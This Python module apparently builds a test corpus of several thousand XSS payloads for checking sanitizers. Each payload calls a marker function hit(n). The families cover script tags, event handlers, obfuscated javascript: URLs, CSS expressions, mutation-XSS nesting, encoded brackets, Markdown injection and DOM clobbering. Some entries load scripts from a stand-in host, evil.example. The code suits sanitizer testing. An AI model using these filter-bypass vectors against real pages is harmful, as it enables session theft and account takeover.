"""Texts that would run a script if any page took them for markup: some thousands, made from what browsers know.

Each calls ``hit`` with its own number. The families are those of the known ways past a filter: elements, handlers,
addresses with a script for a scheme, style, other kinds of content, encodings, Markdown, and names that hide others.
"""

from functools import cache
from itertools import product

EVENTS = """
abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur cancel canplay canplaythrough
change click close command contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut
dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error
focus focusin focusout formdata fullscreenchange fullscreenerror gotpointercapture hashchange input invalid keydown
keypress keyup languagechange load loadeddata loadedmetadata loadstart lostpointercapture message messageerror
mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pagereveal
pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout
pointerover pointerrawupdate pointerup popstate progress ratechange rejectionhandled repeat reset resize scroll
scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking select selectionchange
selectstart show slotchange stalled storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart
transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting
webkitanimationend webkitanimationiteration webkitanimationstart webkittransitionend wheel
""".split()
BEARERS = ["img src=x", "svg", "body", "input autofocus", "a href=#x", "details open", "video src=x"]
SHAPES = [
    '<{0} on{1}="{js}">',
    "<{0} on{1}='{js}'>",
    "<{0} on{1}={js}>",
    "<{0}/on{1}={js}//",
    "<{0}\nON{1}\n=\n`${{{js}}}`>",
]
BREAKS = ['" on{1}="{js}" x="', "' on{1}='{js}' x='", " on{1}={js} ", '"on{1}={js}//', "` on{1}=`{js}` x=`"]
RUNS = [
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<iframe src=javascript:{js}></iframe>",
    "<details open ontoggle={js}>a</details>",
]


def filled(text, **more):
    """A maker of a vector: given the script, the text with it."""
    return lambda js: text.format(js=js, **more)


def scripts():
    """Script elements, whole and broken."""
    openings = ["<script>", "<ScRiPt>", "<script >", "<script\t>", "<script\n>", "<script/>", "<script/x>", "<<script>"]
    openings += ["<script x>", '<script x=">">', "<script type=module>", "<script async>", "<script\f>", "< script>"]
    openings += [
        "<svg><script>",
        "<math><script>",
        "<script language=javascript>",
        "<scr<script>ipt>",
        "<script><!--\n",
    ]
    closings = ["</script>", "</script >", "</script/x>", "</SCRIPT\t>", "</scr</script>ipt>", "//</script>", ""]
    yield from (filled(opening + "{js}" + closing) for opening, closing in product(openings, closings))
    sources = [
        "data:text/javascript,{js}",
        "data:,{js}",
        "//evil.example/a.js",
        "https://evil.example/a.js",
        "\\\\evil",
    ]
    shapes = ["<script src={}></script>", "<script src='{}'></script>", "<svg><script href={} /></svg>"]
    shapes += ["<svg><script xlink:href='{}'></script></svg>", "<script type=module src={}></script>"]
    shapes += [
        "<link rel=modulepreload href={}>",
        "<link rel=import href={}>",
        '<script src="{}',  # never closed
    ]
    yield from (filled(shape.format(source)) for shape, source in product(shapes, sources))


def ends():
    """What ends the element, attribute, comment or mark around it, and then runs."""
    before = ['">', "'>", ">", "`>", "-->", "--!>", "]]>", "*/", "%>", "}}", '\\">', "&quot;>", "\">'>--></", "//\n"]
    elements = "textarea title style script noscript template iframe xmp select option button bdi b div article section"
    before += [f"</{element}>" for element in f"{elements} main body html svg math pre code p a ul li table".split()]
    before += ["<!--/discussion-->", "<!--/shell-->", "<!--/count-->", "<!-- comments:end -->", "</textarea ", "<!--"]
    before += [
        "</article></section></main>",
        "</p></blockquote>",
        '" autofocus x="">',
        "</bdi></b></header>",
        "<![CDATA[",
    ]
    yield from (filled(end + run) for end, run in product(before, RUNS))


def handlers():
    """Every handler of an event, on several elements and in several quotes, and broken out of an attribute."""
    for number, event in enumerate(EVENTS):
        for place, bearer in enumerate(BEARERS):
            for turn in (number + place, number + place + 2):
                yield filled(SHAPES[turn % len(SHAPES)].replace("{0}", bearer).replace("{1}", event))
        yield from (filled(shape.replace("{1}", event)) for shape in BREAKS)


def _spelled():
    """Ways to write an address that is a script."""
    plain = "javascript:{js}"
    yield from (plain, "JaVaScRiPt:{js}", "JAVASCRIPT:{js}", "javascript://%0a{js}", "javascript:/**/{js}")
    yield from (f"java{gap}script:{{js}}" for gap in ("\t", "\n", "\r", "\r\n", "&Tab;", "&NewLine;", "&#9;", "&#x0a;"))
    yield from (
        f"javascript{colon}{{js}}" for colon in ("&colon;", "&#58;", "&#x3A;", "&#0000058", "%3A", "\t:", ":\n")
    )
    before = [
        "\x01",
        "\x0b",
        "\x0c",
        "\x1f",
        " ",
        "\u00a0",
        "\u2003",
        "\ufeff",
        "&#1;",
        "&#x20;",
        "\0",
        "%00",
        "\u200b",
    ]
    yield from (f"{mark}{plain}" for mark in before)
    yield from ("".join(f"&#{ord(letter)};" for letter in "javascript:") + "{js}",)
    yield from ("".join(f"&#x{ord(letter):X}" for letter in "javascript:") + "{js}",)
    yield from ("".join(f"&#{ord(letter):07}" for letter in "javascript:") + "{js}",)
    yield from ("&#106;avascript:{js}", "\\javascript:{js}", "\\u006aavascript:{js}", "%6Aavascript:{js}")
    yield from ("ja\0vascript:{js}", "java\u00adscript:{js}", "javaſcript:{js}", "ｊavascript:{js}")
    page = "<script>top.postMessage(1);{js}</script>"
    yield from (
        f"data:text/html,{page}",
        f"DATA:text/html;charset=utf-8,{page}",
        f"data:,{page}",
        f"data:text/xml,{page}",
    )
    yield from ("data:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload={js}>")
    yield from (f"{scheme}:{{js}}" for scheme in ("vbscript", "livescript", "mocha", "feed:javascript", "view-source"))
    yield from ("//evil.example/{js}", "\\\\evil.example\\{js}", "https:evil.example", "http:/\\evil.example")


CARRIERS = ['<a href="{}">a</a>', "<a href='{}'>a</a>", "<a href={}>a</a>", '<iframe src="{}"></iframe>']
CARRIERS += ['<object data="{}"></object>', '<embed src="{}">', '<form action="{}"><button>a</button></form>']
CARRIERS += ['<form><button formaction="{}">a</button></form>', '<img src="{}">', '<base href="{}">']
CARRIERS += [
    '<svg><a xlink:href="{}"><text y=9>a</text></a></svg>',
    '<math href="{}">a</math>',
    '<body background="{}">',
]
CARRIERS += ['<meta http-equiv=refresh content="0;url={}">', '<link rel=stylesheet href="{}">', '<area href="{}">']
CARRIERS += ['<svg><use href="{}#a"/></svg>', '<svg><animate attributeName=href values="{}"/></svg>', '" href="{}']
CARRIERS += ["[a]({})", "[a](<{}>)", "![a]({})", "<{}>", "[a][b]\n\n[b]: {}", "[a]: {}\n\n[a]", '[a]({} "b")', "{}"]
CARRIERS += ["[a](\n{}\n)", "[![a]({})](http://b.c)", "[http://b.c]({})", "> [a]({})", "- [a]({})", "**[a]({})**"]


def addresses():
    """Scripts as addresses, however they are written and whatever carries them."""
    for carrier, spelled in product(CARRIERS, _spelled()):
        yield lambda js, carrier=carrier, spelled=spelled: carrier.replace("{}", spelled.replace("{js}", js))


def styles():
    """Style that asks for something, or gives a handler its moment."""
    rules = ["color:expression({js})", "background:url(javascript:{js})", "background:url(//evil.example/{js})"]
    rules += [
        "-moz-binding:url(//evil.example/a.xml)",
        "behavior:url(//evil.example/a.htc)",
        "list-style:url(//evil.example)",
    ]
    rules += [
        "@import '//evil.example/a.css';",
        "@import 'javascript:{js}';",
        "@font-face{{font-family:a;src:url(//evil.example)}}",
    ]
    rules += ["*{{animation:a 1s}}@keyframes a{{}}", "content:url(//evil.example)", "w\\69 dth:expression({js})"]
    shapes = [
        "<style>{}</style>",
        '<p style="{}">a</p>',
        "<p style='{}' onanimationstart={{js}}>a",
        '" style="{}',
        "{}",
    ]
    shapes += ["<svg><style>{}</style></svg>", "<style>*{{{{{}}}}}</style>", "<style>/*</style>{}"]
    yield from (filled(shape.replace("{}", rule).replace("{{js}}", "{js}")) for shape, rule in product(shapes, rules))


def nests():
    """Content of one kind inside another, which parsers read apart and sanitizers together."""
    outer = "svg math style noscript template xmp noembed noframes iframe textarea title select table plaintext listing"
    outer = [f"<{name}>" for name in f"{outer} object audio video canvas dialog frameset form marquee".split()]
    outer += [
        "<math><mtext><mglyph>",
        "<math><mtext><table><mglyph>",
        "<svg><desc>",
        "<svg><title>",
        "<svg><foreignObject>",
    ]
    outer += ["<math><annotation-xml encoding=text/html>", "<svg></p>", "<form><math><mtext></form><form><mglyph>"]
    outer += [
        "<select><template>",
        "<table><caption>",
        "<svg><![CDATA[",
        "<!--",
        "<!-->",
        "<!--->",
        "<!-- --!>",
        "<?xml ?>",
    ]
    outer += ["<!DOCTYPE a [<!ENTITY b 'c'>]>", "<![endif]-->", "<!--[if IE]>", "<%", "<?php", "</>", "</ a>", "<!>"]
    names = ["style", "noscript", "title", "template", "xmp", "textarea", "svg", "math", "a"]
    inner = ["{run}", '<style><a id="</style>{run}">', "<style><!--</style>{run}-->", '<a title="--><{run}">']
    inner += [f'<p title="</{name}>{{run}}">' for name in names] + [
        "<style><![CDATA[</style>{run}]]>",
        "<b id='-->{run}'>",
    ]
    for start, shape, run in product(outer, inner, RUNS[:3]):
        yield lambda js, start=start, shape=shape, run=run: start + shape.replace("{run}", run.replace("{js}", js))


def encodings():
    """The signs of markup, written otherwise."""
    written = {
        "percent signs": ("%3C", "%3E"),
        "percent signs twice": ("%253C", "%253E"),
        "entities": ("&lt;", "&gt;"),
        "entities twice": ("&amp;lt;", "&amp;gt;"),
        "numbers": ("&#60;", "&#62;"),
        "numbers without an end": ("&#x3c", "&#x3e"),
        "long numbers": ("&#0000060;", "&#0000062;"),
        "a language's own": ("\\u003c", "\\u003e"),
        "a language's own, short": ("\\x3c", "\\x3e"),
        "UTF-7": ("+ADw-", "+AD4-"),
        "wide signs": ("\uff1c", "\uff1e"),
        "small signs": ("\ufe64", "\ufe65"),
        "quotation": ("\u2039", "\u203a"),
        "signs and a mark": ("<\u0338", ">\u0338"),
        "a NUL after": ("<\0", ">"),
        "a NUL before": ("\0<", "\0>"),
        "another code": ("\x1b$B<\x1b(B", ">"),
        "Latin-1 of UTF-8": ("\u00c0\u00bc", "\u00c0\u00be"),
        "an escape": ("\\<", "\\>"),
        "a turn": ("\u202e<", ">\u202c"),
        "a line's end": ("\u2028<", ">\u2028"),
        "an order mark": ("\ufeff<", ">"),
    }
    for less, more in written.values():
        for run in RUNS:
            yield lambda js, less=less, more=more, run=run: run.format(js=js).replace("<", less).replace(">", more)


def markdown():
    """Marks of Markdown that hold markup, or an attribute's end."""
    written = ['[a](http://b.c" onclick="{js})', "[a](http://b.c' onclick='{js})", '[a](http://b.c "\\" onclick={js}")']
    written += ['[a](<http://b.c" onclick="{js}>)', '["onclick={js} x="](http://b.c)', 'http://b.c/"onclick="{js}']
    written += [
        "http://b.c/'onclick='{js}'",
        "<http://b.c/?'onclick='{js}'>",
        '<http://b.c/"onclick={js}//>',
        "`{run}`",
    ]
    written += [
        '```" onclick="{js}\na\n```',
        "```{run}\na\n```",
        "    {run}",
        "``` \n{run}",
        "[{run}](http://b.c)",
        "![{run}](b)",
    ]
    written += ['[a](mailto:"onclick={js}"@b.c)', "[a](mailto:a@b.c?subject={run})", "[a](http://b.c/{run})", "# {run}"]
    written += [
        "[a][{run}]\n\n[{run}]: http://b.c",
        "a {{#b onclick={js}}}",
        "| {run} |\n|-|",
        "[^1]\n\n[^1]: {run}",
        "${run}$",
    ]
    written += [
        "[a]: http://b.c '{run}'\n\n[a]",
        "http://b.c/<{run}",
        "http://b.c/&quot;onclick={js}",
        "[a](http://b.c&#34;onclick={js})",
    ]
    wraps = ["{}", "*{}*", "**{}**", "> {}", "- {}", "1. {}", "[{}](http://b.c)", "a\n{}\nb"]
    for wrap, text, run in product(wraps, written, RUNS[1:3]):
        yield lambda js, wrap=wrap, text=text, run=run: wrap.replace(
            "{}", text.replace("{run}", run).replace("{js}", js).replace("{{", "{").replace("}}", "}")
        )


def names():
    """Elements whose id or name would stand where the page's own scripts look."""
    wanted = (
        "comments comment-form comment-1 timeline main body head cookie forms getElementById querySelector location"
    )
    wanted += " defaultView documentElement currentScript attributes parentNode firstChild innerHTML nodeName __proto__"
    wanted += " constructor elements action submit token was field-body name dataset hit then toString valueOf"
    shapes = [
        "<a id={0} href=javascript:{js}>a</a>",
        "<img name={0} src=x onerror={js}>",
        "<form id={0}><input name={0}></form>",
    ]
    shapes += [
        "<iframe name={0} srcdoc='<script>{js}</script>'></iframe>",
        '<object id="{0}"></object>',
        "## a {{#{0}}}",
    ]
    for shape, name in product(shapes, wanted.split()):
        yield lambda js, shape=shape, name=name: shape.format(name, js=js)


def marks():
    """What a template, a build or a server would read as its own."""
    written = [
        "{{{{ {js} }}}}",
        "{{% raw %}}{run}{{% endraw %}}",
        "{{{{ '{run}' | safe }}}}",
        "${{{js}}}",
        "#{{{js}}}",
        "<%= {js} %>",
    ]
    written += [
        "<!--#exec cmd='{js}'-->{run}",
        "<!--#include virtual='/a'-->",
        "<!--discussion:follow-up-->{run}",
        "]]>{run}",
    ]
    written += [
        "<!--discussion:follow-up-->{run}<!--/discussion-->",
        "<!--count:follow-up-->{run}<!--/count-->",
        "<?= {js} ?>",
    ]
    written += [
        "<!--shell:main-->{run}<!--/shell-->",
        "<!--shell:title--><!--/shell-->{run}",
        "\\1{run}\\g<0>",
        "%s%(a)s{run}",
    ]
    for text, run in product(written, RUNS):
        yield lambda js, text=text, run=run: text.replace("{run}", run.replace("{js}", "{js}")).format(js=js)


FAMILIES = (scripts, ends, handlers, addresses, styles, nests, encodings, markdown, names, marks)


@cache
def vectors():
    """All of them, as text; the place of each is the number that it calls ``hit`` with."""
    makers = [maker for family in FAMILIES for maker in family()]
    return tuple(maker(f"hit({number})") for number, maker in enumerate(makers))
